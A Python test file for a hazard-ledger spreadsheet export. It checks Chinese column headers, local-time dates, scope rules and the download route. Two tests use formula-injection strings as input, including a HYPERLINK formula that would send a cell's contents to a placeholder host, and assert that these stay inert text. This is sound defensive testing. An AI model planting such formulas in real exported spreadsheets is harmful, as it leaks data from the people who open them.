"""The hazard ledger (台账) XLSX, read back with openpyxl."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from io import BytesIO

import pytest
import time_machine
from openpyxl import load_workbook

from tests.hazard_world import act, make_world, open_hazard
from tests.login_helpers import log_in
from webapp.scope import OutOfScope
from webapp.services.ledger import (
    HEADER_ROW,
    HEADERS,
    LedgerRangeError,
    ledger_hazards,
    ledger_xlsx,
)

EXPECTED_HEADERS = [
    "序号",
    "工程名称",
    "隐患部位",
    "隐患描述",
    "等级",
    "来源",
    "发现时间",
    "发现人",
    "整改方式",
    "整改措施",
    "责任人",
    "整改时限",
    "资金",
    "完成时间",
    "验收人",
    "验收时间",
    "状态",
]
# 23:30 UTC on 30 Nov is 07:30 on 1 Dec in Asia/Shanghai.
FOUND = datetime(2026, 11, 30, 23, 30, tzinfo=UTC)


@pytest.fixture
def world(app):
    with app.test_request_context(), time_machine.travel(FOUND + timedelta(hours=1), tick=False):
        yield make_world()


def _rows(data: bytes) -> tuple[list, list[dict]]:
    sheet = load_workbook(BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    headers = list(rows[HEADER_ROW - 1])
    return rows, [dict(zip(headers, row, strict=True)) for row in rows[HEADER_ROW:]]


def test_the_ledger_has_the_chinese_columns_and_local_dates(app, world):
    with app.test_request_context(), time_machine.travel(FOUND + timedelta(hours=1), tick=False):
        on_spot = open_hazard(
            world, "EVAC-01", {"mode": "on_spot", "action": "打开出口"}, finished_at=FOUND
        )
        act(world, "mgr", on_spot, "verified", note="合格")
        open_hazard(
            world,
            "FIRE-01",
            {
                "mode": "order",
                "responsible": {"name": "李四", "phone": "13900001111"},
                "deadline": "2026-12-05",
                "measures": "更换灭火器",
                "funds": {"amount": "1200.5", "source": "运维经费"},
            },
            finished_at=FOUND,
        )
        office = open_hazard(
            world, "FIRE-08", None, finder="city_sup", kind="office", finished_at=FOUND
        )
        act(world, "city_sup", office, "supervise", notice="甲人防督〔2026〕3号")
        ledger = ledger_hazards(
            world.user("county_sup"), "CA-K", date(2026, 12, 1), date(2026, 12, 1)
        )
        rows, lines = _rows(ledger_xlsx(ledger))
    assert HEADERS == EXPECTED_HEADERS
    assert list(rows[HEADER_ROW - 1]) == EXPECTED_HEADERS
    assert "隐患排查治理台账" in rows[0][0] and "2026-12-01 至 2026-12-01" in rows[1][0]
    assert [line["序号"] for line in lines] == [1, 2, 3]
    first, second, third = lines
    assert first == {
        "序号": 1,
        "工程名称": "人民广场地下商场",
        "隐患部位": "安全出口未锁闭",
        "隐患描述": "EVAC-01 不合格",
        "等级": "一般",
        "来源": "自查",
        "发现时间": "2026-12-01 07:30",
        "发现人": "检查员甲",
        "整改方式": "即查即改",
        "整改措施": "打开出口",
        "责任人": None,
        "整改时限": "当场",
        "资金": None,
        "完成时间": "2026-12-01 07:30",
        "验收人": "单位负责人",
        "验收时间": "2026-12-01 08:30",
        "状态": "已销号",
    }
    assert (second["整改方式"], second["责任人"], second["整改时限"], second["资金"]) == (
        "限期整改",
        "李四（13900001111）",
        "2026-12-05",
        "1,200.50元（运维经费）",
    )
    assert second["状态"] == "整改中"
    assert (third["等级"], third["来源"], third["发现人"]) == ("重大", "督导检查", "市督查员")
    assert third["状态"] == "待整改（挂牌督办）"


def test_the_ledger_covers_the_range_in_local_days_and_the_scope(app, world):
    with app.test_request_context():
        open_hazard(world, "FIRE-01", finished_at=FOUND)  # 1 Dec local time
        user = world.user("county_sup")
        assert (
            len(ledger_hazards(user, "CA-K", date(2026, 11, 30), date(2026, 11, 30)).hazards) == 0
        )
        assert len(ledger_hazards(user, "CA-K", date(2026, 12, 1), date(2026, 12, 31)).hazards) == 1
        assert len(ledger_hazards(user, "U-K1", date(2026, 12, 1), date(2026, 12, 1)).hazards) == 1
        with pytest.raises(OutOfScope):
            ledger_hazards(user, "CA", date(2026, 12, 1), date(2026, 12, 1))
        with pytest.raises(LedgerRangeError):
            ledger_hazards(user, "CA-K", date(2026, 12, 2), date(2026, 12, 1))


def test_text_that_looks_like_a_formula_stays_text(app, world):
    """A measure typed on a phone as "=HYPERLINK(...)" must not run when the ledger opens."""
    typed = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    with app.test_request_context(), time_machine.travel(FOUND + timedelta(hours=1), tick=False):
        order = {
            "mode": "order",
            "responsible": "李四",
            "deadline": "2026-12-05",
            "measures": typed,
        }
        open_hazard(world, "FIRE-01", order, finished_at=FOUND)
        data = ledger_xlsx(
            ledger_hazards(world.user("county_sup"), "CA-K", date(2026, 12, 1), date(2026, 12, 1))
        )
    sheet = load_workbook(BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows(min_row=HEADER_ROW + 1) for cell in row]
    assert typed in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


def test_the_ledger_download_from_the_page(app, client, world):
    with app.test_request_context():
        open_hazard(world, "FIRE-01", finished_at=FOUND)
    log_in(client, world.user("city_sup").username)
    reply = client.get("/hazards/ledger?org=CA&first_day=2026-12-01&last_day=2026-12-01")
    assert reply.status_code == 200
    assert reply.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in reply.headers["Content-Disposition"]
    _rows_, lines = _rows(reply.data)
    assert len(lines) == 1 and lines[0]["工程名称"] == "人民广场地下商场"
    bad = client.get("/hazards/ledger?org=CA&first_day=2026-12-02&last_day=2026-12-01")
    assert bad.status_code == 422
    assert (
        client.get("/hazards/ledger?org=CB&first_day=2026-12-01&last_day=2026-12-01").status_code
        == 404
    )


def test_an_organisation_named_like_a_formula_stays_text_in_the_title(app, world):
    """The title row carries the organisation's name: it is text, never a formula."""
    name = '=HYPERLINK("http://x","y")'
    with app.test_request_context(), time_machine.travel(FOUND + timedelta(hours=1), tick=False):
        world.tree["county"].name = name
        open_hazard(world, "FIRE-01", finished_at=FOUND)
        data = ledger_xlsx(
            ledger_hazards(world.user("county_sup"), "CA-K", date(2026, 12, 1), date(2026, 12, 1))
        )
    sheet = load_workbook(BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert sheet["A1"].value.startswith(name)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
